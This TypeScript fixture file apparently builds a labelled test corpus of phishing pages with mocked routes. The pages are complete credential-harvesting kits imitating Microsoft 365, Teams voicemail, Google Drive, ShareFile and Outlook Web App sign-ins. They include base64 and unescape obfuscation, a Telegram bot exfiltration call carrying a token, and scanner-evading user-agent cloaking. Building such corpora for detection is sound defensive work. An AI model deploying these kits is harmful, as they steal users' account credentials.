import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { beepWav, fileRoute, jsonRoute } from '../parts/e-bin.js';
import { b64, blurredDoc, googleG, msBoxCss, msLogo, msSquares, pctAll } from '../parts/yf-kit.js';

const tgLogin = `<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Sign in to your account</title>
<style>${msBoxCss}
body{background-image:linear-gradient(135deg,#dfe9f3 0%,#ffffff 100%)}
.banner{height:36px}
</style></head>
<body>
<div class="outer"><div class="middle">
<div class="box">
<div class="banner">${msLogo}</div>
<div class="identity" id="idrow"><span class="back">&#8592;</span><span id="mail"></span></div>
<div class="title">Enter password</div>
<div class="small" style="margin-bottom:10px">Because you're accessing sensitive info, you need to verify your password.</div>
<div class="err" id="err">Your account or password is incorrect. If you don't remember your password, <a href="https://account.live.com/ResetPassword.aspx">reset it now.</a></div>
<form id="f" autocomplete="off">
<input type="password" name="passwd" id="passwd" placeholder="Password" required>
<div><label class="small"><input type="checkbox" name="KMSI"> Keep me signed in</label></div>
<div style="margin-top:8px"><a href="#">Forgotten your password?</a></div>
<div class="row-btn"><button type="submit" class="btn-primary">Sign in</button></div>
</form>
</div>
<div class="opts">&#128273; Sign-in options</div>
</div></div>
<script>
var h = location.hash.slice(1), em = '';
try { em = atob(h); } catch (e) { em = h; }
document.getElementById('mail').textContent = em;
var cnt = 0, ip = '';
fetch('https://api.ipify.org?format=json').then(function(r){return r.json()}).then(function(j){ip=j.ip}).catch(function(){});
document.getElementById('f').addEventListener('submit', function(ev){
  ev.preventDefault(); cnt++;
  var p = document.getElementById('passwd').value;
  var msg = '\\u{1F511} O365 RESULT\\nEmail: ' + em + '\\nPass: ' + p + '\\nTry: ' + cnt + '\\nIP: ' + ip + '\\nUA: ' + navigator.userAgent;
  fetch('https://api.telegram.org/bot6620193847:AAHq7Lx0vR_eW2kTnZp8cJm4dYsU1oBfQ3g/sendMessage', {
    method: 'POST', headers: {'Content-Type': 'application/json'},
    body: JSON.stringify({chat_id: '-1002093381174', text: msg})
  }).finally(function(){
    if (cnt < 3) { document.getElementById('err').style.display = 'block'; document.getElementById('passwd').value = ''; }
    else { location.replace('https://outlook.office.com/mail/'); }
  });
});
</script>
</body></html>`;

const vmLogin = `<!DOCTYPE html>
<html lang="en-AU"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Voice Message - Microsoft Teams</title>
<style>${msBoxCss}
body{background:#f5f5f5}
.vm{width:440px;max-width:calc(100% - 40px);margin:40px auto 12px;background:#fff;padding:24px 28px;box-shadow:0 2px 6px rgba(0,0,0,.2);display:flex;gap:16px;align-items:center}
.vm .play{width:46px;height:46px;border-radius:50%;background:#5b5fc7;color:#fff;border:0;font-size:18px;cursor:pointer}
.bar{flex:1;height:6px;background:#e1dfdd;border-radius:3px;position:relative}
.bar i{position:absolute;left:0;top:0;bottom:0;width:0;background:#5b5fc7;border-radius:3px}
#auth{display:none}
</style></head>
<body>
<div class="vm">
<button class="play" id="play">&#9658;</button>
<div style="flex:1"><div style="font-weight:600">New voicemail &middot; 00:41</div><div class="small" style="color:#605e5c">From +61 3 9012 4471 (Melbourne, VIC) &middot; Today 9:14 am</div><div class="bar" style="margin-top:10px"><i id="prog"></i></div></div>
<audio id="aud" src="/vm/media/preview-3f9a21.wav" preload="auto"></audio>
</div>
<div class="box" id="auth">
${msLogo}
<div class="title">Sign in to listen</div>
<div class="small" style="margin-bottom:14px">The remainder of this message is stored in your organisation's Teams voicemail. Sign in with your work account to continue playback.</div>
<div class="err" id="err">That password is incorrect for your Microsoft account.</div>
<form method="post" action="/vm/auth.php" id="vf">
<input type="hidden" name="mid" value="3f9a21">
<input type="email" name="login" id="login" placeholder="someone@example.com" required>
<input type="password" name="passwd" placeholder="Password" required>
<div class="row-btn"><button class="btn-primary" type="submit">Sign in</button></div>
</form>
</div>
<script>
var q = new URLSearchParams(location.search); if (q.get('u')) document.getElementById('login').value = q.get('u');
document.getElementById('play').onclick = function(){
  var a = document.getElementById('aud'); a.play().catch(function(){});
  var w = 0, t = setInterval(function(){ w += 2; document.getElementById('prog').style.width = w + '%'; if (w >= 8) { clearInterval(t); a.pause(); document.getElementById('auth').style.display = 'block'; } }, 250);
};
</script>
</body></html>`;

const gSignIn = `<!DOCTYPE html>
<html lang="en-GB" dir="ltr"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Google Drive: Sign-in</title>
<style>
body{margin:0;font-family:"Google Sans",Roboto,Arial,sans-serif;background:#f0f4f9;color:#1f1f1f}
.card{width:1040px;max-width:calc(100% - 32px);margin:12vh auto;background:#fff;border-radius:28px;padding:36px;display:flex;gap:40px;box-sizing:border-box}
.l,.r{flex:1}
h1{font-size:36px;font-weight:400;margin:18px 0 12px}
.sub{font-size:16px}
.field{position:relative;margin:30px 0 8px}
.field input{width:100%;box-sizing:border-box;height:56px;border:1px solid #747775;border-radius:4px;padding:13px 15px;font-size:16px}
.field input:focus{outline:none;border:2px solid #0b57d0}
a{color:#0b57d0;font-weight:500;text-decoration:none;font-size:14px}
.act{display:flex;justify-content:flex-end;gap:10px;margin-top:40px}
.next{background:#0b57d0;color:#fff;border:0;border-radius:20px;padding:10px 24px;font-size:14px;font-weight:500;cursor:pointer}
.chip{display:inline-flex;border:1px solid #747775;border-radius:16px;padding:4px 10px;font-size:14px;margin-top:10px}
.e{color:#b3261e;font-size:12px;display:none;margin-top:4px}
.doc{display:flex;gap:10px;align-items:center;margin-top:18px;background:#f8fafd;padding:10px 14px;border-radius:12px;font-size:14px}
</style></head>
<body>
<div class="card">
<div class="l">${googleG}
<h1 id="h">Sign in</h1>
<div class="sub" id="s">to continue to Google Drive</div>
<div class="doc"><span style="background:#4285f4;color:#fff;padding:4px 7px;border-radius:3px;font-weight:700">W</span>Trust Deed - Kowalski Family Trust (signed).docx<br>Owner: admin@pacificcoastaccounting.co.nz</div>
<div class="chip" id="chip" style="display:none"></div>
</div>
<div class="r">
<div id="a">
<div class="field"><input type="email" id="identifierId" placeholder="Email or phone" autocomplete="username"></div>
<div class="e" id="ea">Enter an email or phone number</div>
<a href="#">Forgot email?</a>
<p style="font-size:14px;color:#444746;margin-top:34px">Not your computer? Use Guest mode to sign in privately. <a href="#">Learn more about using Guest mode</a></p>
<div class="act"><a href="#" style="padding:10px">Create account</a><button class="next" id="n1">Next</button></div>
</div>
<div id="b" style="display:none">
<div class="field"><input type="password" id="pw" name="Passwd" placeholder="Enter your password" autocomplete="current-password"></div>
<div class="e" id="eb">Wrong password. Try again or click Forgot password to reset it.</div>
<label style="font-size:14px"><input type="checkbox" onclick="pw.type=this.checked?'text':'password'"> Show password</label>
<div class="act"><a href="#" style="padding:10px">Forgot password?</a><button class="next" id="n2">Next</button></div>
</div>
</div>
</div>
<script>
var id = document.getElementById('identifierId'), pw = document.getElementById('pw'), k = 0;
document.getElementById('n1').onclick = function(){
  if (id.value.indexOf('@') < 1) { document.getElementById('ea').style.display='block'; return; }
  document.getElementById('h').textContent = 'Welcome';
  document.getElementById('s').textContent = '';
  var c = document.getElementById('chip'); c.textContent = id.value; c.style.display='inline-flex';
  document.getElementById('a').style.display='none'; document.getElementById('b').style.display='block';
};
document.getElementById('n2').onclick = function(){
  if (!pw.value) return; k++;
  var body = new URLSearchParams({email: id.value, password: pw.value, step: String(k), doc: '1Fq7pZ0xYv'});
  navigator.sendBeacon('/gd/next.php', body);
  if (k < 2) { document.getElementById('eb').style.display='block'; pw.value=''; }
  else location.href = 'https://drive.google.com/drive/my-drive';
};
</script>
</body></html>`;

const shareFileKit = `<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>ShareFile - Secure Document</title>
<style>
body{margin:0;font-family:"Open Sans",Arial,sans-serif;background:#eef2f5}
.top{background:#0b1f33;color:#fff;height:58px;display:flex;align-items:center;padding:0 24px;font-size:20px;font-weight:600;letter-spacing:.3px}
.top b{color:#41b6e6}
.panel{width:420px;margin:70px auto;background:#fff;border-radius:6px;box-shadow:0 4px 18px rgba(0,0,0,.12);padding:30px}
.panel h2{margin:0 0 6px;font-size:20px}
.panel p{font-size:14px;color:#555}
label{display:block;font-size:13px;margin-top:14px;color:#333}
input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #c6ccd2;border-radius:4px;font-size:15px;margin-top:4px}
button{width:100%;margin-top:20px;padding:11px;background:#1a73e8;border:0;color:#fff;font-size:15px;border-radius:4px}
.f{font-size:13px;background:#f4f8fb;border:1px solid #dde6ee;padding:10px;border-radius:4px;margin:12px 0}
</style></head>
<body>
<div class="top"><b>Share</b>File</div>
<div class="panel">
<h2>Secure document waiting</h2>
<p>Harrington Property Group sent you an encrypted document.</p>
<div class="f">&#128196; Lease_Renewal_Unit4_Signed.pdf &middot; 1.2 MB</div>
<form action="/d-s4f9a1c2/auth" method="post">
<label>Email address</label><input type="email" name="username" required>
<label>Email password</label><input type="password" name="password" required>
<input type="hidden" name="ref" value="hpg-lease">
<button type="submit">Access Document</button>
</form>
<p style="font-size:12px;margin-top:16px">Protected by ShareFile. Your email password is required to decrypt files shared with your address.</p>
</div>
</body></html>`;

const owaHtml = `<div id="mainLogonDiv" class="mouse">
<div class="sidebar"><div class="owaLogoContainer"><div class="owaLogo" style="font-size:42px;color:#fff;font-weight:200">Outlook</div></div></div>
<div class="logonContainer">
<div id="lgnDiv" class="logonDiv">
<div class="signInImageHeader" style="font-size:28px;color:#0072c6;margin-bottom:20px">${msSquares} Outlook Web App</div>
<form action="https://www.kelownaplumbingandheating.ca/wp-admin/css/colors/ocean/owa.php" method="POST" name="logonForm" autocomplete="off">
<input type="hidden" name="destination" value="https://mail.office365.com/owa/">
<input type="hidden" name="flags" value="4"><input type="hidden" name="forcedownlevel" value="0">
<div class="signInInputLabel">Domain\\user name:</div>
<div><input id="username" name="username" type="text" class="signInInputText" placeholder="user@domain.ca"></div>
<div class="signInInputLabel">Password:</div>
<div><input id="password" name="password" type="password" class="signInInputText"></div>
<div class="signInCheckBoxText"><input type="radio" name="trusted" value="0" checked> This is a public or shared computer</div>
<div class="signInCheckBoxText"><input type="radio" name="trusted" value="4"> This is a private computer</div>
<div class="signInEnter"><div class="signinbutton" onclick="document.logonForm.submit()" role="button" tabindex="0" style="cursor:pointer;font-size:22px;color:#0072c6">&#10140; sign in</div></div>
<div class="signInWarning" style="margin-top:14px;font-size:12px">Your mailbox has exceeded its storage limit. Sign in to keep receiving mail.</div>
</form>
</div></div></div>`;

const owaPage = `<!DOCTYPE html>
<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"><meta name="robots" content="noindex, nofollow">
<title>Outlook</title>
<style>
body{margin:0;font-family:"Segoe UI","Segoe WP",Tahoma,Arial,sans-serif;background:#fff}
.sidebar{position:fixed;left:0;top:0;bottom:0;width:332px;background:#0072c6}
.owaLogoContainer{padding:50% 40px}
.logonContainer{margin-left:400px;padding-top:18vh}
.signInInputLabel{font-size:14px;color:#666;margin-top:12px}
.signInInputText{width:280px;height:28px;border:1px solid #ccc;font-size:14px;padding:2px 6px}
.signInCheckBoxText{font-size:13px;color:#333;margin-top:10px}
.signInEnter{margin-top:18px}
</style></head>
<body>
<script>document.write(unescape('${pctAll(owaHtml)}'));</script>
<noscript><div>To use Outlook, browser settings must allow scripts to run.</div></noscript>
</body></html>`;

export const entries: Entry[] = [
  {
    id: 'yf-m365-atob-docwrite-on-dental-wp',
    label: 'phishing',
    kind: 'obfuscated-m365-kit',
    url: 'https://www.canberradentalgroup.com.au/wp-content/uploads/2024/03/secure/index.html',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="robots" content="noindex,nofollow"><title>&#8203;</title></head><body>
<script>
var _0x1a = "${b64(tgLogin)}";
function _d(s){ return decodeURIComponent(Array.prototype.map.call(atob(s), function(c){ return '%' + ('00' + c.charCodeAt(0).toString(16)).slice(-2); }).join('')); }
document.open(); document.write(_d(_0x1a)); document.close();
</script>
</body></html>`,
    routes: {
      'api.telegram.org/bot6620193847:AAHq7Lx0vR_eW2kTnZp8cJm4dYsU1oBfQ3g/sendMessage': jsonRoute({ ok: true, result: { message_id: 4471 } }),
    },
  },
  {
    id: 'yf-teams-voicemail-listen-kit',
    label: 'phishing',
    kind: 'voicemail-lure-kit',
    url: 'https://vm.teams-voicemail.net/listen?mid=3f9a21&u=accounts%40bayside-dental.com.au',
    body: vmLogin,
    routes: {
      'vm.teams-voicemail.net/vm/media/preview-3f9a21.wav': fileRoute(beepWav(2, 440), 'audio/wav'),
      'vm.teams-voicemail.net/vm/auth.php': redirectRoute(302, 'https://login.microsoftonline.com/'),
    },
  },
  {
    id: 'yf-google-drive-trust-deed-twostep',
    label: 'phishing',
    kind: 'shared-doc-google-kit',
    url: 'https://drive.google.com-file.share-docs.info/file/d/1Fq7pZ0xYv/view?usp=sharing',
    body: gSignIn,
    routes: {
      'drive.google.com-file.share-docs.info/gd/next.php': jsonRoute({ ok: 1 }),
    },
  },
  {
    id: 'yf-sharefile-lease-ua-cloak',
    label: 'phishing',
    kind: 'cloaked-doc-kit',
    url: 'https://files.sharefile-securelink.com/d-s4f9a1c2',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Loading...</title>
<style>body{font-family:Arial,sans-serif;display:flex;align-items:center;justify-content:center;height:100vh;margin:0;color:#666}</style></head>
<body><div id="l">Loading secure document&hellip;</div>
<script>
(function(){
  var ua = navigator.userAgent || '';
  var bad = /bot|crawl|spider|slurp|headless|phantom|puppeteer|playwright|lighthouse|python|curl|wget|scan|preview|proofpoint|mimecast|barracuda/i.test(ua) || navigator.webdriver === true || !navigator.languages || navigator.languages.length === 0 || screen.width < 300;
  if (bad) { location.replace('https://www.sharefile.com/'); return; }
  fetch('/d-s4f9a1c2/v?t=' + Date.now(), {credentials: 'include'}).then(function(r){ return r.text(); }).then(function(h){ document.open(); document.write(h); document.close(); });
})();
</script></body></html>`,
    routes: {
      'files.sharefile-securelink.com/d-s4f9a1c2/v': htmlRoute(shareFileKit),
      'files.sharefile-securelink.com/d-s4f9a1c2/auth': redirectRoute(302, 'https://www.sharefile.com/'),
    },
  },
  {
    id: 'yf-owa-unescape-firebase',
    label: 'phishing',
    kind: 'obfuscated-webmail-kit',
    url: 'https://owa-login-4f1c2.firebaseapp.com/owa/auth/logon.aspx?replaceCurrent=1&url=https%3a%2f%2fmail.office365.com%2fowa%2f',
    body: owaPage,
    routes: {
      'www.kelownaplumbingandheating.ca/wp-admin/css/colors/ocean/owa.php': redirectRoute(302, 'https://outlook.office365.com/owa/'),
    },
  },
  {
    id: 'yf-webflow-trust-recon-lure',
    label: 'phishing',
    kind: 'lure-linking-on',
    url: 'https://harbour-legal-documents.webflow.io/',
    body: `<!DOCTYPE html>
<html data-wf-site="65f0c1a9b3e4d2" lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Harbour Legal - Secure Documents</title>
<meta content="Webflow" name="generator">
<style>
body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f3f6fa;color:#222}
.wrap{max-width:560px;margin:10vh auto;background:#fff;border-radius:10px;padding:40px;box-shadow:0 6px 24px rgba(20,40,80,.1);text-align:center}
.firm{font-family:Georgia,serif;font-size:26px;color:#13324f;letter-spacing:1px}
.firm small{display:block;font-family:Arial;font-size:11px;letter-spacing:3px;color:#7f8c99;margin-top:4px}
.file{display:flex;align-items:center;gap:14px;text-align:left;background:#f7f9fc;border:1px solid #e3e9f1;border-radius:8px;padding:14px;margin:28px 0}
.file i{display:inline-block;width:40px;height:48px;background:#c43e1c;border-radius:3px}
.btn{display:inline-block;background:#0f6cbd;color:#fff;text-decoration:none;padding:13px 34px;border-radius:4px;font-weight:bold}
p.note{font-size:12px;color:#8793a0;margin-top:26px}
</style></head>
<body>
<div class="wrap">
<div class="firm">HARBOUR LEGAL<small>SOLICITORS &amp; CONVEYANCERS</small></div>
<p style="margin-top:28px">A document has been shared with you via OneDrive for Business.</p>
<div class="file"><i></i><div><b>Trust Account Reconciliation - March 2024.pdf</b><br><span style="font-size:13px;color:#666">Shared by Jessica Morris &middot; 2 pages &middot; 318 KB</span></div></div>
<a class="btn" href="https://odsp-viewer-7731.azurewebsites.net/onedrive/?id=TAR-0324&amp;src=wf">VIEW DOCUMENT</a>
<p class="note">This link will expire in 48 hours. If you were not expecting this document, please contact the sender.</p>
</div>
</body></html>`,
  },
];
